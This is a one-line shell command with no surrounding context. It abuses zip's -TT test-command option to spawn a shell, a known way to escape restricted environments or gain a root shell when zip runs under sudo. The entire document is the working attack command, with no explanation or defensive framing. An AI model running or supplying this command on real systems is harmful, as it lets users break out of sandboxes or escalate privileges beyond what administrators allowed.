zip x.zip /etc/hosts -T -TT 'sh #'
